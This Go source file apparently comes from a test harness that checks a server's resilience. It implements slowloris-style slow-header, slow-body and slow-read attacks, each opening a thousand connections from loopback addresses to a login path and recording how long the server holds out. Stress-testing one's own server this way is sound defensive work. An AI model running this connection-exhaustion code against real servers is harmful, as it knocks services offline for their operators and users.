package main

import (
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

// Of each kind of slow connection there are a thousand, from forty addresses.
const (
	slowConnections = 1000
	slowAddresses   = 40
	dripEvery       = time.Second
)

// slow is an attack of connections that ask or read byte by byte. What it saw of each is
// how long the server bore it; status 0 where there was none, or it lasted as long as patience.
func slow(begin func(server string) string, drip func(net.Conn) error) attack {
	return func(server string, _ <-chan struct{}) *sample {
		seen := newSample()
		var all sync.WaitGroup
		for i := range slowConnections {
			all.Go(func() {
				c := &caller{server: server, from: fmt.Sprintf("127.0.4.%d", i%slowAddresses+1)}
				if err := c.dial(); err != nil {
					seen.add(0, 0)
					return
				}
				defer c.close()
				_ = c.conn.(*net.TCPConn).SetReadBuffer(1024)
				began := now()
				if _, err := io.WriteString(c.conn, begin(server)); err != nil {
					seen.add(0, since(began))
					return
				}
				_ = c.conn.SetDeadline(began.Add(patience))
				for since(began) < patience {
					if drip(c.conn) != nil || gone(c.conn) {
						seen.add(closedByServer, since(began))
						return
					}
					time.Sleep(dripEvery)
				}
				seen.add(0, patience)
			})
		}
		all.Wait()
		return seen
	}
}

// closedByServer is how a slow connection ended, beside HTTP's statuses.
const closedByServer = 1

func slowHeader(server string) string {
	return "GET " + loginPath + " HTTP/1.1\r\nHost: " + server + "\r\nX-Slow: "
}

// slowBody announces as much as a stranger may send.
func slowBody(server string) string {
	return "POST " + loginPath + " HTTP/1.1\r\nHost: " + server + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 16384\r\n\r\na="
}

// slowRead asks for pages that nobody will take in.
func slowRead(server string) string {
	return string(get(server, loginPath, "")) + string(get(server, loginPath, ""))
}

// dripByte sends one byte.
func dripByte(conn net.Conn) error {
	_, err := conn.Write([]byte("a"))
	return err
}

// sipBytes reads a few.
func sipBytes(conn net.Conn) error {
	_, err := conn.Read(make([]byte, 32))
	return err
}
